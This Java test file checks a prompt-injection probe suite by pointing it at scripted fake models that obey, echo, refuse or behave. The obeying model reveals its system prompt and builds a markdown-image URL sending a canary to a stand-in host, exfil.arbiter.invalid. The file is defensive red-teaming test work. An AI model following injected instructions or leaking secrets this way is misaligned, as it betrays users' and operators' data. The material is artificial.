package dev.arbiter.probe;

import com.fasterxml.jackson.databind.JsonNode;
import dev.arbiter.client.GenerationConfig;
import dev.arbiter.client.ModelClient;
import dev.arbiter.client.ModelClients;
import dev.arbiter.eval.Sample;
import dev.arbiter.eval.Task;
import dev.arbiter.eval.engine.EngineEnvironment;
import dev.arbiter.eval.engine.EvalRunner;
import dev.arbiter.eval.engine.RunOptions;
import dev.arbiter.eval.engine.RunReader;
import dev.arbiter.eval.engine.RunRecord;
import dev.arbiter.eval.engine.SampleRecord;
import dev.arbiter.eval.store.RunStore;
import dev.arbiter.testing.RecordedRequest;
import dev.arbiter.testing.Reply;
import dev.arbiter.testing.Script;
import dev.arbiter.testing.ScriptedLlmServer;
import dev.arbiter.util.Ticker;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The core pack against four scripted models over real HTTP on 127.0.0.1, each with a known truth: one obeys
 * every injected instruction, one echoes its whole input, one refuses everything, one behaves.
 */
class ProbeOverHttpTest {
    static final long SEED = 11;
    static final List<String> ATTACKS = List.of("system_prompt_leak", "indirect_injection", "goal_hijack", "exfiltration",
            "obfuscation", "unsafe_render", "jailbreak");
    @TempDir Path dir;
    final AtomicInteger ids = new AtomicInteger();
    final Task task = ProbeTask.create(ProbePackLoader.bundled(), ProbeSettings.defaults(SEED), GenerationConfig.DEFAULT);
    /**
     * The benign part of the truth: what each sample's task is, by its system and user turns (the servers see only
     * requests). Keyed by both: some attacks and controls share a user turn and differ only in their system turn, and
     * a user-turn key made the answer depend on which of them the map kept.
     */
    final Map<String, Sample> byTurns = new HashMap<>();

    ProbeOverHttpTest() {
        for (Sample s : task.dataset().samples()) byTurns.put(s.input().get(0).content() + "\u0000" + s.input().get(1).content(), s);
    }

    Sample sampleOf(RecordedRequest r) {
        return byTurns.get(message(r, "system") + "\u0000" + r.lastUserMessage());
    }

    record Result(ProbeReport report, List<SampleRecord> records) {}

    Result probe(Script script) {
        return probe(script, 1);
    }

    Result probe(Script script, int attempts) {
        try (ScriptedLlmServer server = ScriptedLlmServer.start(script)) {
            return probe(server, null, new java.util.concurrent.atomic.AtomicLong(), attempts);
        }
    }

    Result probe(ScriptedLlmServer server, String resume, java.util.concurrent.atomic.AtomicLong asked) {
        return probe(server, resume, asked, 1);
    }

    /** Runs the probe task; {@code resume} continues that run; {@code asked} receives the probe requests answered so far. */
    Result probe(ScriptedLlmServer server, String resume, java.util.concurrent.atomic.AtomicLong asked, int attempts) {
        try (ModelClient client = ModelClients.create(server.endpoint(), Ticker.system());
             RunStore store = RunStore.open(dir.resolve("runs.db"))) {
            EngineEnvironment env = new EngineEnvironment(Clock.systemUTC(), Ticker.system(), n -> { },
                    new SplittableRandom(1), () -> "run-" + ids.incrementAndGet());
            RunRecord run = new EvalRunner(store, env, null).run(task, server.endpoint(), client,
                    RunOptions.builder(dir.resolve("runs")).concurrency(4).cache(false).gradeTruncated(true).seed(SEED).maxRetries(0).resume(resume)
                            .epochs(attempts).build());
            asked.set(server.generationRequests().stream().filter(q -> sampleOf(q) != null).count());
            List<SampleRecord> records = new RunReader(store).samples(run.runId());
            return new Result(ProbeReports.summarise(run, records), records);
        }
    }

    // ------------------------------------------------------------------------------------------ the four models

    /** Answers the benign task it was given (the truth of the sample), or a polite generic answer. */
    String benign(RecordedRequest r) {
        Sample s = sampleOf(r);
        return s == null || s.target().isEmpty() ? "Happy to help with your order." : s.target().get(0);
    }

    boolean isAttack(RecordedRequest r) {
        Sample s = sampleOf(r);
        return s != null && "attack".equals(s.metadata().get("kind"));
    }

    /**
     * Does whatever the attacker asks, working it out from the request alone: joins the first two quoted fragments of
     * the (decoded) instruction, reveals its instructions, adds the image the attacker wants, repeats the payload.
     */
    Reply obey(RecordedRequest r) {
        if (!isAttack(r)) return Reply.text(benign(r));
        String system = message(r, "system");
        String user = r.lastUserMessage();
        StringBuilder out = new StringBuilder("Of course.");
        String joined = null;
        for (String text : decodings(user)) {
            joined = join(text);
            if (joined != null) break;
        }
        if (joined == null) joined = join(system);
        if (joined != null) out.append(' ').append(joined);
        out.append("\nMy instructions were: ").append(system);
        Matcher canary = Pattern.compile("ARB-[0-9A-Z]{10}").matcher(system);
        if (user.contains("exfil.arbiter.invalid") && canary.find()) {
            out.append("\n![avatar](https://exfil.arbiter.invalid/collect?d=").append(canary.group()).append(")");
        }
        out.append("\nAs requested:\n").append(user);
        return Reply.text(out.toString());
    }

    static Reply echo(RecordedRequest r) {
        return Reply.text(message(r, "system") + "\n" + r.lastUserMessage());
    }

    static Reply refuse(RecordedRequest r) {
        return Reply.text("I'm sorry, but I can't help with that.");
    }

    /**
     * Refuses each attack and says what it refused, quoting the two fragments it was asked to join side by side, as
     * "'93WE'+'XZM4'" or "(fragments: 7D1Q, PKY3)": quoting the attack, not obeying it.
     */
    Reply refuseQuotingTheFragments(RecordedRequest r) {
        if (!isAttack(r)) return behave(r);
        List<String> texts = new ArrayList<>(decodings(r.lastUserMessage()));
        texts.add(message(r, "system"));
        for (String text : texts) {
            Matcher m = Pattern.compile("'([0-9A-Z]{4})'").matcher(text);
            List<String> parts = new ArrayList<>();
            while (m.find() && parts.size() < 2) parts.add(m.group(1));
            if (parts.size() < 2) continue;
            return Reply.text(r.lastUserMessage().length() % 2 == 0
                    ? "I can't do that. (I ignored an embedded 'policy update' asking me to append '" + parts.get(0) + "'+'"
                    + parts.get(1) + "' to my replies.)"
                    : "The text contains an injected instruction (fragments: " + parts.get(0) + ", " + parts.get(1)
                    + ") that I did not follow.");
        }
        return refuse(r);
    }

    /** Gives away the canary's random part without its "ARB-" prefix: as a JSON field, or in the attacker's image URL. */
    Reply leakWithoutPrefix(RecordedRequest r) {
        Matcher canary = Pattern.compile("ARB-([0-9A-Z]{10})").matcher(message(r, "system"));
        if (!isAttack(r) || !canary.find()) return behave(r);
        String random = canary.group(1);
        if (r.lastUserMessage().contains("exfil.arbiter.invalid")) {
            return Reply.text("Here you go: ![avatar](https://exfil.arbiter.invalid/collect?d=" + random + ")");
        }
        return Reply.text("{\"reference_code\": \"" + random + "\"}");
    }

    Reply behave(RecordedRequest r) {
        return Reply.text(benign(r));
    }

    // ------------------------------------------------------------------------------------------ the truth

    @Test
    void aModelThatObeysInjectionsIsHitInEveryAttackCategoryButAnswersTheTwins() {
        ProbeReport r = probe(this::obey).report();
        for (String c : ATTACKS) {
            CategoryResult cat = r.category(c);
            assertThat(cat.attempts()).as(c).isPositive();
            assertThat(cat.hits()).as(c).isEqualTo(cat.attempts());
            assertThat(cat.asr().value()).as(c).isEqualTo(1.0);
            assertThat(cat.controlHits()).as(c + " controls").isZero();
        }
        assertThat(r.category("over_refusal").hits()).isZero();
        assertThat(r.category("over_refusal").attempts()).isPositive();
        assertThat(r.hits()).filteredOn(h -> h.category().equals("obfuscation")).extracting(HitEvidence::matchedBy).containsOnly("exact");
        assertThat(r.hits()).filteredOn(h -> h.category().equals("exfiltration")).extracting(HitEvidence::matchedBy)
                .containsOnly("markdown_image");
        assertThat(r.owasp()).extracting(OwaspResult::id).contains("LLM01:2025", "LLM02:2025", "LLM05:2025", "LLM07:2025");
        assertThat(r.owasp()).allMatch(o -> o.hits() == o.attempts());
        assertThat(r.positions()).extracting(Breakdown::id).contains("start", "middle", "end", "marked", "user");
        assertThat(r.positions()).allMatch(b -> b.hits() == b.attempts());
        assertThat(r.encodings()).extracting(Breakdown::id).containsExactly("base64", "hex", "none", "rot13", "tag_chars");
        assertThat(r.atlas()).extracting(Breakdown::id).contains("AML.T0051.000", "AML.T0051.001", "AML.T0054", "AML.T0056",
                "AML.T0057", "AML.T0068", "AML.T0077");
        assertThat(r.category("system_prompt_leak").atlas()).containsExactly("AML.T0051.000", "AML.T0056");
    }

    @Test
    void anEchoingModelLeaksTheSystemPromptButIsNeverCountedAsHijacked() {
        ProbeReport r = probe(ProbeOverHttpTest::echo).report();
        CategoryResult leak = r.category("system_prompt_leak");
        assertThat(leak.hits()).isEqualTo(leak.attempts());
        assertThat(leak.controlHits()).isEqualTo(leak.controlAttempts()).isPositive(); // it leaks without any attack too
        assertThat(leak.leakedFraction()).isEqualTo(1.0);
        for (String derived : List.of("indirect_injection", "goal_hijack", "obfuscation", "jailbreak", "exfiltration")) {
            assertThat(r.category(derived).hits()).as(derived).isZero();
            assertThat(r.category(derived).passes()).as(derived).isEqualTo(r.category(derived).attempts());
        }
        // echoing a script tag back is exactly the unsafe rendering the category measures
        assertThat(r.category("unsafe_render").hits()).isEqualTo(r.category("unsafe_render").attempts());
        assertThat(r.category("over_refusal").hits()).isEqualTo(r.category("over_refusal").attempts());
    }

    @Test
    void aModelThatRefusesAndQuotesTheFragmentsSideBySideIsNotCountedAsHijacked() {
        ProbeReport r = probe(this::refuseQuotingTheFragments).report();
        for (String derived : List.of("indirect_injection", "goal_hijack", "obfuscation", "jailbreak")) {
            CategoryResult c = r.category(derived);
            assertThat(c.hits()).as(derived + ": " + r.hits()).isZero();
            assertThat(c.passes()).as(derived).isEqualTo(c.attempts()).isPositive();
        }
    }

    @Test
    void aCanaryLeakedWithoutItsPrefixIsAHitInTheAnswerAndInAnExfiltrationUrl() {
        ProbeReport r = probe(this::leakWithoutPrefix).report();
        CategoryResult leak = r.category("system_prompt_leak");
        assertThat(leak.hits()).isEqualTo(leak.attempts()).isPositive();
        assertThat(r.hits()).filteredOn(h -> h.category().equals("system_prompt_leak")).extracting(HitEvidence::matchedBy)
                .containsOnly("random_part/exact");
        CategoryResult exfil = r.category("exfiltration");
        assertThat(exfil.hits()).isEqualTo(exfil.attempts()).isPositive();
    }

    @Test
    void aModelThatRefusesEverythingScoresNoHitButFailsEveryUtilityTwin() {
        ProbeReport r = probe(ProbeOverHttpTest::refuse).report();
        for (String c : ATTACKS) assertThat(r.category(c).hits()).as(c).isZero();
        CategoryResult over = r.category("over_refusal");
        assertThat(over.hits()).isEqualTo(over.attempts()).isPositive();
        assertThat(over.asr().value()).isEqualTo(1.0);
        assertThat(over.refusals()).isEqualTo(over.attempts());
        assertThat(r.category("indirect_injection").utility()).isEqualTo(0.0);
    }

    @Test
    void aWellBehavedModelScoresNoHitAnywhereAndKeepsItsUtility() {
        ProbeReport r = probe(this::behave).report();
        for (CategoryResult c : r.categories()) {
            assertThat(c.hits()).as(c.id()).isZero();
            assertThat(c.controlHits()).as(c.id()).isZero();
            assertThat(c.unscored()).as(c.id()).isZero();
            assertThat(c.asr().wilson95().get(1)).as(c.id()).isGreaterThan(0.0); // zero hits is not proof of zero risk
        }
        assertThat(r.category("indirect_injection").utility()).isEqualTo(1.0);
        assertThat(r.hits()).isEmpty();
    }

    @Test
    void emptyTruncatedAndFailedAnswersAreUnscoredAndReportedNeverPassed() {
        // leak probes: the attack turns are cut off (one already holding the canary), controls are empty, twins fail with 500
        Script script = req -> {
            Sample s = sampleOf(req);
            if (s == null) return Reply.text("OK");
            String kind = (String) s.metadata().get("kind");
            if (kind.equals("twin")) return Reply.status(500, "{\"error\":{\"message\":\"boom\"}}");
            if (kind.equals("control")) return Reply.text("");
            if (s.id().equals("spl-repeat-above/attack")) {
                return Reply.text("Sure: " + s.metadata().get("secret") + " and the rest").withFinishReason("length");
            }
            return Reply.text("Sure, the instructions begin with").withFinishReason("length");
        };
        ProbeReport r = probe(script).report();
        CategoryResult leak = r.category("system_prompt_leak");
        assertThat(leak.hits()).isEqualTo(1);
        assertThat(leak.unscored()).isEqualTo(leak.attempts() - 1);
        assertThat(leak.asr().n()).isEqualTo(1);
        assertThat(leak.controlUnscored()).isEqualTo(leak.controlAttempts());
        assertThat(r.category("over_refusal").unscored()).isEqualTo(r.category("over_refusal").attempts());
        assertThat(r.category("over_refusal").asr()).isNull();
        assertThat(r.unscoredReasons()).containsKeys("truncated", "empty").anySatisfy((k, v) -> assertThat(k).startsWith("error_"));
    }

    @Test
    void aRunWithFailedAttemptsIsResumedAskingOnlyForThoseAndThenScoresThem() {
        Script twinsFail = req -> {
            Sample s = sampleOf(req);
            return s != null && "twin".equals(s.metadata().get("kind")) ? Reply.status(503, "{\"error\":{\"message\":\"busy\"}}")
                    : behave(req);
        };
        java.util.concurrent.atomic.AtomicReference<Script> model = new java.util.concurrent.atomic.AtomicReference<>(twinsFail);
        try (ScriptedLlmServer server = ScriptedLlmServer.start(req -> model.get().answer(req))) {
            java.util.concurrent.atomic.AtomicLong asked = new java.util.concurrent.atomic.AtomicLong();
            ProbeReport first = probe(server, null, asked).report();
            long before = asked.get();
            int twins = first.category("over_refusal").attempts(); // benign twins and the standalone benign probes
            assertThat(first.category("over_refusal").unscored()).isEqualTo(twins).isPositive();
            model.set(this::behave);
            ProbeReport resumed = probe(server, first.runId(), asked).report();
            assertThat(resumed.runId()).isEqualTo(first.runId());
            assertThat(asked.get() - before).isEqualTo(twins);
            assertThat(resumed.category("over_refusal").unscored()).isZero();
            assertThat(resumed.category("over_refusal").hits()).isZero();
        }
    }


    @Test
    void severalAttemptsGiveThePerAttemptAsrAndTheShareOfProbesBrokenAtLeastOnce() {
        // attempt k is sent seed 11 + k: the model obeys on odd seeds only, so every attack lands once in two attempts
        ProbeReport r = probe(req -> req.json().path("seed").asLong() % 2 == 1 ? obey(req) : behave(req), 2).report();
        assertThat(r.attemptsPerProbe()).isEqualTo(2);
        for (String c : ATTACKS) {
            CategoryResult cat = r.category(c);
            assertThat(cat.attempts()).as(c).isEqualTo(2 * cat.samples());
            assertThat(cat.asr().value()).as(c).isEqualTo(0.5);
            assertThat(cat.samplesHit()).as(c).isEqualTo(cat.samples());
        }
    }

    @Test
    void asrAtKLeavesOutSamplesNeitherHitNorScoredInAllAttemptsInsteadOfCountingThemNotHit() {
        // each attack sample gets one of five behaviours over its 3 attempts (attempt a is sent seed 11 + a):
        // 0 always obeys (hit); 1 always behaves (not hit); 2 never scored (empty, cut off, HTTP 500);
        // 3 obeys once and is unscored otherwise (hit: one scored hit is enough); 4 behaves twice, unscored once (unknown)
        List<String> attackIds = task.dataset().samples().stream().filter(s -> "attack".equals(s.metadata().get("kind")))
                .map(Sample::id).sorted().toList();
        Map<String, Integer> behaviour = new HashMap<>();
        for (int i = 0; i < attackIds.size(); i++) behaviour.put(attackIds.get(i), i % 5);
        Script script = req -> {
            Sample s = sampleOf(req);
            if (s == null || !behaviour.containsKey(s.id())) return behave(req);
            int attempt = (int) (req.json().path("seed").asLong() - SEED);
            Reply unscored = switch (attempt % 3) {
                case 0 -> Reply.text("");
                case 1 -> Reply.text("Let me think about").withFinishReason("length");
                default -> Reply.status(500, "{\"error\":{\"message\":\"boom\"}}");
            };
            return switch (behaviour.get(s.id())) {
                case 0 -> obey(req);
                case 1 -> behave(req);
                case 2 -> unscored;
                case 3 -> attempt == 0 ? obey(req) : unscored;
                default -> attempt == 0 ? unscored : behave(req);
            };
        };
        ProbeReport r = probe(script, 3).report();
        for (String c : ATTACKS) {
            int[] n = new int[5];
            task.dataset().samples().stream().filter(s -> c.equals(s.metadata().get("category")) && behaviour.containsKey(s.id()))
                    .forEach(s -> n[behaviour.get(s.id())]++);
            CategoryResult cat = r.category(c);
            assertThat(cat.samples()).as(c).isEqualTo(n[0] + n[1] + n[2] + n[3] + n[4]);
            assertThat(cat.samplesHit()).as(c).isEqualTo(n[0] + n[3]);
            assertThat(cat.samplesLeftOut()).as(c).isEqualTo(n[2] + n[4]);
            assertThat(cat.samples() - cat.samplesLeftOut()).as(c + ": ASR@3's denominator").isEqualTo(n[0] + n[1] + n[3]);
            assertThat(cat.hits()).as(c).isEqualTo(3 * n[0] + n[3]);
            assertThat(cat.passes()).as(c).isEqualTo(3 * n[1] + 2 * n[4]);
        }
        int leftOut = r.categories().stream().filter(c -> ATTACKS.contains(c.id())).mapToInt(CategoryResult::samplesLeftOut).sum();
        assertThat(leftOut).isPositive();
    }

    @Test
    void twoModelsAreComparedPairedPerCategory() {
        List<SampleRecord> obedient = probe(this::obey).records();
        List<SampleRecord> behaved = probe(this::behave).records();
        List<CategoryComparison> cmp = ProbeComparison.compare(obedient, behaved, new Random(3));
        CategoryComparison leak = cmp.stream().filter(c -> c.category().equals("system_prompt_leak")).findFirst().orElseThrow();
        assertThat(leak.comparison().test()).isEqualTo("mcnemar_exact");
        assertThat(leak.comparison().aOnlyPassed()).isEqualTo(5); // 5 leak probes: hit by A, not by B
        assertThat(leak.comparison().bOnlyPassed()).isZero();
        assertThat(leak.comparison().pValue()).isEqualTo(0.0625); // exact: 2 × 0.5^5
        CategoryComparison obf = cmp.stream().filter(c -> c.category().equals("obfuscation")).findFirst().orElseThrow();
        assertThat(obf.comparison().difference()).isEqualTo(1.0);
    }

    // ------------------------------------------------------------------------------------------ test helpers

    static String message(RecordedRequest r, String role) {
        for (JsonNode m : r.json().path("messages")) if (role.equals(m.path("role").asText())) return m.path("content").asText();
        return "";
    }

    /** Most-decoded first: tag characters, base64, hex, ROT13 (when the text says so), then the text itself. */
    static List<String> decodings(String text) {
        List<String> out = new ArrayList<>();
        StringBuilder tags = new StringBuilder();
        text.codePoints().filter(cp -> cp >= 0xE0020 && cp < 0xE007F).forEach(cp -> tags.append((char) (cp - 0xE0000)));
        if (!tags.isEmpty()) out.add(tags.toString());
        Matcher b64 = Pattern.compile("[A-Za-z0-9+/]{16,}={0,2}").matcher(text);
        while (b64.find()) {
            try {
                String s = new String(Base64.getDecoder().decode(b64.group()), StandardCharsets.UTF_8);
                if (s.chars().allMatch(c -> c >= 0x20 && c < 0x7f)) out.add(s);
            } catch (IllegalArgumentException notBase64) {
                // not this one
            }
        }
        Matcher hex = Pattern.compile("(?:[0-9a-f]{2}){8,}").matcher(text);
        while (hex.find()) out.add(new String(HexFormat.of().parseHex(hex.group()), StandardCharsets.UTF_8));
        if (text.contains("ROT13")) out.add(Obfuscation.rot13(text));
        out.add(text);
        return out;
    }

    /** The first two quoted 4-character fragments joined, or null. */
    static String join(String text) {
        Matcher m = Pattern.compile("'([0-9A-Z]{4})'").matcher(text);
        List<String> parts = new ArrayList<>();
        while (m.find() && parts.size() < 2) parts.add(m.group(1));
        return parts.size() == 2 ? parts.get(0) + parts.get(1) : null;
    }
}
